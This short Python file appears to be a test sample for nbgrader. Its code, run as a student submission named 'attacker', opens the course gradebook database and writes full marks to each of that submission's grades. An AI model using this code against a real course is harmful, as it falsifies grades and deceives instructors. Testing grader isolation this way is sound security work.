"""Opens the gradebook and writes full points for itself."""

prize = "points"
harmless = True

# %% last
from nbgrader.api import Gradebook

with Gradebook("sqlite:///@COURSE@/gradebook.db") as book:
    for grade in book.find_submission("@ASSIGNMENT@", "attacker").notebooks[0].grades:
        grade.manual_score = grade.max_score
    book.db.commit()
